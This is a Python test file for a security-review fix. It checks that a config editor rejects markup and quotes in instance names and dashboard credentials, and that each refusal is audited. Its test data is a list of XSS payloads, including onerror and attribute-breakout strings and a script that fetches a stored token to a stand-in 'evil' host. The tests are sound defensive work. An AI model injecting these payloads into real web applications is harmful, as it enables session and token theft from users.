"""M5 of the security review: markup written into the manager's registry by the config editor.

The attack: an operator token scoped to one instance set its `name` to
`<img src=x onerror=alert(1)>`; the Ultrabase manager's dashboard renders `project.name`
with innerHTML (and inside `onclick='...'`), so the manager's admin ran the script. Every
value the editor writes into the registry (name, dashboard username and password) now
takes only what the manager's own config editor accepts, and markup and quotes are a 400
with nothing written and nothing started.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from actions.models import ConfigEditRequest
from actions.operations.config_edit import config_edit_body, validate_changes
from exporter.web.params import BadRequest
from tests.unit.access_matrix import BETA
from tests.unit.actions.test_api import ADMIN, OPERATOR_BETA, World
from tests.unit.actions.test_files import OTHER, make_instance, snapshot, write_manager_registry

MARKUP = [
    "<img src=x onerror=alert(1)>",
    "x' onmouseover='alert(1)",
    "a', 'b'); alert(document.cookie); ('",
    'Alpha" autofocus onfocus="alert(1)',
    "<script>fetch('//evil/'+localStorage.token)</script>",
    "A &lt;b&gt;",
    "back`tick`",
]
HOSTILE: list[tuple[str, str]] = [
    *(("name", value) for value in MARKUP),
    *(("dashboard_username", value) for value in ("<b>admin</b>", "adm'in", "a\"b_c")),
    *(("dashboard_password", value) for value in (
        "<img src=x onerror=alert(1)>", "pass'word-1", 'pass"word-1', "p&amp;ssword1",
        "pa$$word-1")),
]


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    # The real validation in front of plain operation bodies.
    made = World(tmp_path, bodies={"validate_changes": validate_changes})
    yield made
    made.close()


def test_markup_and_quotes_are_refused_with_400(world: World) -> None:
    client = world.app.test_client()
    for field, value in HOSTILE:
        answer = client.put(f"/api/instances/{BETA}/config?wait=true",
                            json={"changes": {field: value}}, headers=OPERATOR_BETA)
        assert answer.status_code == 400, (field, value, answer.get_data(as_text=True))
        assert answer.json["error"]["code"] == "bad_request"
        assert value not in answer.get_data(as_text=True)
    assert world.plain.calls == [] and world.operations() == 0
    # Each refusal is audited, without the value.
    entries = client.get("/api/audit?action=config_edit&limit=1000", headers=ADMIN).json
    assert [e["result"] for e in entries["entries"]] == ["refused"] * len(HOSTILE)
    assert not any(value in str(entries) for _, value in HOSTILE)


@pytest.mark.parametrize(("field", "value"), HOSTILE)
def test_the_editor_refuses_them_before_touching_a_file(tmp_path: Path, field: str,
                                                       value: str) -> None:
    write_manager_registry(tmp_path, OTHER, "4a3c9fac")
    instance = make_instance(tmp_path)
    before = snapshot(instance)
    with pytest.raises(BadRequest) as caught:
        config_edit_body({field: value})
    assert caught.value.status == 400 and value not in str(caught.value)
    assert snapshot(instance) == before


def test_what_the_managers_editor_accepts_passes() -> None:
    good: dict[str, Any] = {"name": "Loja Central - prod_2", "dashboard_username": "ops_1",
                            "dashboard_password": "Long pass: #1 (ok)! [x]"}
    assert validate_changes(good) == good
    parsed = ConfigEditRequest.model_validate({"changes": good})
    assert parsed.changes.given() == good


def test_the_document_tells_clients_the_allowed_characters(world: World) -> None:
    schemas = world.app.test_client().get("/openapi.json").json["components"]["schemas"]
    fields = schemas["ConfigChanges"]["properties"]
    name = next(o for o in fields["name"]["anyOf"] if o.get("type") == "string")
    assert name["pattern"] == "^[A-Za-z0-9 _-]{2,50}$"


def test_plain_world_still_takes_a_good_name(world: World) -> None:
    answer = world.app.test_client().put(f"/api/instances/{BETA}/config?wait=true",
                                         json={"changes": {"name": "Beta renamed"}},
                                         headers=OPERATOR_BETA)
    assert answer.status_code == 200 and answer.json["status"] == "succeeded"
    assert world.plain.calls == [("config_edit", BETA, {"keys": ["name"]})]
